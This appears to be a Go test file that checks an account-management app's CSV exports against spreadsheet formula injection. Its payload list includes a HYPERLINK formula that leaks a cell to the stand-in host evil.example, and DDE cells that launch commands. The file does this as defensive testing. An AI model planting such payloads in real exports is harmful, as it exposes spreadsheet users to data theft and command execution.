package activation

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/activator-voip/activator/internal/model"
	"github.com/activator-voip/activator/internal/store"
	"github.com/activator-voip/activator/internal/store/storetest"
)

// Cells a spreadsheet would run as formulas, in every column a user or an
// attacker can fill.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
	`+HYPERLINK("https://evil.example")`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// signedNumberRE is what signedNumber matches, as the regular expression
// it stands for.
var signedNumberRE = regexp.MustCompile(`^[+-][0-9]{1,20}$`)

func TestSignedNumberIsItsRegexp(t *testing.T) {
	for _, v := range []string{"", "+", "-", "+3", "-0", "+393331234567", "+12345678901234567890", "+123456789012345678901",
		"++1", "+-1", "+1a", "+1 ", " +1", "+1\n", "1", "=1", "+١", "-12345678901234567890"} {
		if got, want := signedNumber(v), signedNumberRE.MatchString(v); got != want {
			t.Errorf("signedNumber(%q) = %v, the regexp says %v", v, got, want)
		}
	}
}

// checkNoFormula fails for any cell of a CSV export that a spreadsheet
// would read as a formula.
func checkNoFormula(t *testing.T, what string, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) && !signedNumberRE.MatchString(cell) {
				t.Errorf("%s: row %d column %d is read as a formula: %q", what, i+1, j+1, cell)
			}
		}
	}
	return recs
}

func TestExportsNeutraliseFormulasAndImportBackUnchanged(t *testing.T) {
	storetest.ForEach(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		dom := newDomain(t, st)
		mustGroup(t, dom, "sales")
		for i, f := range formulas {
			mobile := fmt.Sprintf("+3933312345%02d", i)
			name := "Eve " + strings.TrimSpace(f)
			if strings.IndexByte(formulaStart, f[0]) >= 0 && f[0] != '\t' && f[0] != '\r' {
				name = f // a name that is itself a formula
			}
			if _, err := dom.Accounts.Create(ctx, model.AccountInput{Group: strp("sales"), Name: strp(name), Description: strp(f), Mobile: strp(mobile)}, admin); err != nil {
				t.Fatalf("account %q: %v", f, err)
			}
			if err := dom.Audit.Add(ctx, Caller{Name: f, Role: model.RoleAdmin, OrgID: model.DefaultOrgID}, "127.0.0.1", "console", "POST /console/login", f, 401, nil, nil); err != nil {
				t.Fatal(err)
			}
		}
		var accounts, audit bytes.Buffer
		if err := dom.Accounts.Export(ctx, &accounts, "", "", "", admin); err != nil {
			t.Fatal(err)
		}
		if err := dom.Audit.Export(ctx, &audit, AuditFilter{}, admin); err != nil {
			t.Fatal(err)
		}
		checkNoFormula(t, "account export", accounts.Bytes())
		// A phone number is a plain number to a spreadsheet: it stays as it is.
		if !strings.Contains(accounts.String(), ",+393331234500,") {
			t.Errorf("the export changed a phone number:\n%s", accounts.String())
		}
		if recs := checkNoFormula(t, "audit export", audit.Bytes()); len(recs) != len(formulas)+1 {
			t.Errorf("audit export: %d rows, want %d", len(recs), len(formulas)+1)
		}
		// The export reads back as the same accounts: every row matches one.
		p, err := dom.Imports.Preview(ctx, "export.csv", accounts.Bytes(), ImportOptions{}, admin)
		if err != nil {
			t.Fatalf("importing the export back: %v", err)
		}
		if p.Exists != len(formulas) || p.Create != 0 || p.Invalid != 0 {
			t.Fatalf("the export read back: %d exist, %d to create, %d invalid (%+v); want all %d to exist",
				p.Exists, p.Create, p.Invalid, p.Errors, len(formulas))
		}
		for _, r := range p.Rows {
			if !strings.HasPrefix(r.Name, "Eve ") && !strings.ContainsRune(formulaStart, rune(r.Name[0])) {
				t.Errorf("a name read back as %q: the neutralising quote was kept", r.Name)
			}
		}
	})
}
